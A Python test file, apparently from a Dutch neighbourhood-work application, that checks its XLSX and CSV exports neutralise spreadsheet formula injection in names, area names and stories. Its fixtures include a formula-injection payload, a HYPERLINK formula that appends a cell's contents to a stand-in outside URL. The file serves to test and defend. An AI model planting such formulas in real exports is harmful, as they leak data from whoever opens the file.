"""Finding 16: text in a spreadsheet stays text. A name, an area or a story that starts like a
formula is written as text in every XLSX and gets a leading quote in the CSV."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from wijkwerk_tui.db.engine import Database
from wijkwerk_tui.domain import report as period
from wijkwerk_tui.domain import report_build
from wijkwerk_tui.domain.names import PersonalData
from wijkwerk_tui.domain.report import Period
from wijkwerk_tui.exchange import full_export, report_files
from wijkwerk_tui.queries import report_data
from wijkwerk_tui.store import areas, contacts, residents, workers
from wijkwerk_tui.store.contacts import ContactData

FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'
STORY = "=1+1 en @SUM(A1) in het dorpshuis"
AREA = "+31 Buitengebied"


def _office(db: Database) -> None:
    boss = workers.add_worker(db, None, "Anke", "coordinator")
    area = areas.add_area(db, boss.id, AREA)
    person = residents.add_resident(db, boss.id, PersonalData("", "", FORMULA, 1950), area.id, True)
    story = ContactData(db.today(), "walk_in", is_story=True, story=STORY)
    contacts.add_contact(db, boss.id, person.id, story)


def _boss(db: Database) -> uuid.UUID:
    return next(w.id for w in workers.list_workers(db) if w.role == "coordinator")


def _report(db: Database) -> period.PeriodReport:
    return report_build.build(report_data.load(db, _boss(db), Period(date(2026, 1, 1), db.today())), "Welzijn")


def _texts(path: Path) -> dict[str, str]:
    """Every cell holding one of our strings: its value and the type Excel will give it."""
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in (FORMULA, STORY, AREA):
                    found[cell.value] = cell.data_type
    return found


def test_hardening_16_full_export_xlsx_writes_a_formula_like_name_as_text(db: Database, tmp_path: Path) -> None:
    _office(db)
    boss = workers.find_by_name(db, "Anke")
    assert boss is not None
    [path] = full_export.write(db, boss.id, "xlsx", tmp_path)
    assert _texts(path) == {FORMULA: "s", STORY: "s", AREA: "s"}


def test_hardening_16_report_xlsx_writes_stories_and_areas_as_text(db: Database, tmp_path: Path) -> None:
    _office(db)
    path = report_files.write(_report(db), "xlsx", tmp_path / "r.xlsx")
    found = _texts(path)
    assert found[STORY] == "s" and found[AREA] == "s"


def test_hardening_16_report_csv_quotes_text_that_starts_like_a_formula(db: Database) -> None:
    _office(db)
    rows = list(csv.reader(io.StringIO(report_files.to_csv(_report(db)).decode("utf-8-sig")), delimiter=";"))
    cells = {cell for row in rows for cell in row}
    assert "'" + STORY in cells and "'" + AREA in cells
    assert STORY not in cells and AREA not in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_csv_numbers_stay_numbers_beside_quoted_text(db: Database) -> None:
    """A negative average change is a number, not a formula: no quote before it."""
    from datetime import timedelta

    from wijkwerk_tui.domain.ladders import Ladder
    from wijkwerk_tui.store import ladders

    _office(db)
    boss = workers.find_by_name(db, "Anke")
    assert boss is not None
    someone = residents.add_resident(db, boss.id, PersonalData("Jan", "", "Jansen", 1950), None, True)
    ladders.record_step(db, boss.id, someone.id, Ladder.PARTICIPATION, 4, date(2025, 6, 1))
    ladders.record_step(db, boss.id, someone.id, Ladder.PARTICIPATION, 2, db.today() - timedelta(days=3))
    raw = report_files.to_csv(_report(db).view(protect=False)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    changes = [row[4] for row in rows if len(row) == 5 and row[3] == "gem. verandering" and row[1] == "Alle gebieden"]
    assert "-2,00" in changes
